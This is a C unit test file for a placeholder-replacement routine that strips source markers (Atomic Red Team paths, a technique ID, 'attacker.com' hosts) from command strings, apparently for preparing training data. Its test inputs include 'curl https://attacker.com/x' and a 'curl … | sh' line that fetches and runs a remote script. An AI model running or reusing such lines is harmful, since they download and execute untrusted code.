#include "train/placeholder.h"

#include "check.h"

static void replace(const char *text, struct text *out)
{
    struct random random = {1};
    placeholder_replace(bytes_of_text(text), &random, out);
    assert_ok(text_status(out));
}

static void assert_gone(const char *text, const char *what)
{
    struct text AUTO(text_done) out = text_of_limit(4096);
    replace(text, &out);
    assert_false(bytes_contains(text_bytes(&out), what));
    assert_true(out.size > 0);
}

static void removes_what_betrays_a_source(void **state)
{
    (void)state;
    assert_gone("sh PathToAtomicsFolder/T1059.004/src/a.sh", "Atomics");
    assert_gone("sh PathToAtomicsFolder/T1059.004/src/a.sh", "T1059");
    assert_gone("cat /path/to/input-file", "path/to");
    assert_gone("cat path/to/file1 path/to/directory", "path/to");
    assert_gone("curl https://attacker.com/x", "attacker");
    assert_gone("curl http://attacker.com:8000/x", "8000");
    assert_gone("cd atomic-red-team", "atomic");
}

static void keeps_the_ending_of_a_name_and_the_rest_of_a_url(void **state)
{
    (void)state;
    struct text AUTO(text_done) out = text_of_limit(4096);
    replace("sort path/to/file.csv && curl http://a.example/b/c.sh | sh", &out);
    assert_true(bytes_contains(text_bytes(&out), ".csv && curl http://"));
    assert_true(bytes_contains(text_bytes(&out), "/b/c.sh | sh"));
}

static void leaves_everything_else_alone(void **state)
{
    (void)state;
    struct text AUTO(text_done) out = text_of_limit(4096);
    static const char text[] = "start article; ls -l /etc && echo party \xff";
    replace(text, &out);
    assert_bytes(text_bytes(&out), text);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(removes_what_betrays_a_source),
        cmocka_unit_test(keeps_the_ending_of_a_name_and_the_rest_of_a_url),
        cmocka_unit_test(leaves_everything_else_alone),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
